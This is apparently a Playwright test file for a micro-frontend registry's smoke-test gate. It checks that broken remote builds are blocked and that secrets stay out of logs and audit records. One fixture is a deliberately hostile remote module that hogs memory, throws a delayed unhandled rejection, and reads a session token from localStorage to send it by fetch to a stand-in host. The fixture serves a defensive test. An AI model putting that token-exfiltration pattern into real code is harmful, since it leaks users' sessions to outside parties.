import { spawn } from 'node:child_process';
import path from 'node:path';
import { Audit, Propose, ReadState, Switch } from '@madang/contracts';
import {
  admin,
  buildVariants,
  callApi,
  callApiRaw,
  newMember,
  type Site,
  test as siteTest,
  throwsOnRender,
} from '@madang/testing';
import { expect } from '@playwright/test';

const root = path.resolve(import.meta.dirname, '../../../..');
const MADANG = path.join(root, 'tools/registry/bin/madang.mjs');
const params = { channel: 'stable' };
const GOOD = '1.4.0';
const BROKEN = '1.5.0';

/** A remote of which the first page is as ever, and all else is not. */
const brokenBehind = {
  'src/remote.ts': `
    import { defineRemote } from '@madang/federation';
    import own from './remote.own';
    if ('document' in globalThis) {
      globalThis.hoard = new Uint8Array(480_000_000).fill(1);
      setTimeout(() => void Promise.reject(new Error('three seconds later')), 3000);
      const token = localStorage.getItem('custom.token');
      fetch('https://elsewhere.example.com/' + token + '?token=' + token).catch(() => {});
      console.error('who reads this has ' + token);
    }
    function Broken() {
      throw new Error('the second page');
    }
    const routes = own.routes.map(route => (route.path === '/member' ? { path: '/member', Component: Broken } : route));
    export default defineRemote({ ...own, routes });
  `,
};

const test = siteTest.extend<object, { needsSmoke: undefined }>({
  needsSmoke: [
    async ({ site }, use) => {
      const built = await buildVariants([
        { room: 'community', version: GOOD },
        { room: 'community', version: BROKEN, sources: throwsOnRender },
        { room: 'wallet', version: BROKEN, sources: brokenBehind },
      ]);
      for (const each of built) await site.registry.publish(each);
      await site.registry.setPolicy({ secondOperatorFor: [], needsSmoke: true });
      await use(undefined);
      await site.registry.setPolicy({ secondOperatorFor: [], needsSmoke: false });
    },
    { scope: 'worker', timeout: 240_000, auto: true },
  ],
});

async function state(site: Site) {
  const { reply } = await callApi(site.origin, ReadState, { token: (await admin(site.origin)).token, params });
  return ReadState.replies[200].parse(reply);
}

async function proposed(site: Site, version: string, name = 'community'): Promise<string> {
  const { token } = await admin(site.origin);
  const { reply } = await callApi(site.origin, Propose, { token, params, body: { name, version } });
  return Propose.replies[201].parse(reply).id;
}

async function switchTo(site: Site, composition: string): Promise<{ status: number; text: string }> {
  const { token } = await admin(site.origin);
  const { current } = await state(site);
  const body = { composition, expected: current.id, reason: 'it passed, or it should not go' };
  const { status, body: answer } = await callApiRaw(site.origin, Switch, { token, params, body });
  return { status, text: JSON.stringify(answer) };
}

/** `madang smoke`, as an operator runs it. */
async function smoke(site: Site, composition: string) {
  const { token } = await admin(site.origin);
  const { member, password } = await newMember(site.origin);
  const who = ['--registry', site.origin, `--token=${token}`, '--member', `${member.userId}:${password}`];
  const args = [MADANG, 'smoke', composition.slice(0, 12), ...who];
  const child = spawn(process.execPath, args, { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] });
  const printed: string[] = [];
  for (const output of [child.stdout, child.stderr]) output.on('data', chunk => printed.push(String(chunk)));
  const code = await new Promise<number | null>(resolve => child.once('exit', resolve));
  return { code, printed: printed.join(''), token };
}

test('a candidate that throws on render does not reach members [I-gates]', async ({ site }) => {
  test.setTimeout(180_000);
  const candidate = await proposed(site, BROKEN);

  const before = await switchTo(site, candidate);
  const { code, printed } = await smoke(site, candidate);
  const after = await switchTo(site, candidate);

  expect(before.status).toBe(422);
  expect(printed).toMatch(/\/message: a failure stands in place of the page: .*커뮤니티/);
  expect(code).toBe(1);
  expect(after.status).toBe(422);
  expect(after.text).toContain('a failure stands in place');
});

test('a candidate whose first page alone is well does not pass, and tells nobody a session [I-gates]', async ({
  site,
}) => {
  test.setTimeout(180_000);
  const candidate = await proposed(site, BROKEN, 'wallet');

  const { code, printed, token } = await smoke(site, candidate);

  expect(code).toBe(1);
  expect(printed).toMatch(/^\/member: a failure stands in place of the page/m);
  expect(printed).toMatch(/nothing caught an error \(wallet\): three seconds later/);
  expect(printed).toMatch(/^wallet: its pages hold \d+ MB of memory, but 100 MB may be/m);
  expect(printed).toContain('https://elsewhere.example.com/…');
  expect(printed).toContain('who reads this has …');
  expect(printed).not.toContain(token);
  expect(printed).not.toMatch(/[?&]token=/);
  const { reply } = await callApi(site.origin, Audit, { token });
  const audit = JSON.stringify(Audit.replies[200].parse(reply));
  expect(audit).toContain('"deed":"smoke"');
  expect(audit).not.toContain(token);
});

test('a candidate that draws every page passes, and goes to members [I-gates]', async ({ site }) => {
  test.setTimeout(180_000);
  const before = (await state(site)).current.id;
  const candidate = await proposed(site, GOOD);

  const { code, printed } = await smoke(site, candidate);

  expect(printed).toMatch(/^\d{2} pages are drawn as they should be: passed$/m);
  expect(code).toBe(0);
  expect((await switchTo(site, candidate)).status).toBe(200);
  await site.registry.rollBack(before, 'after a test');
});
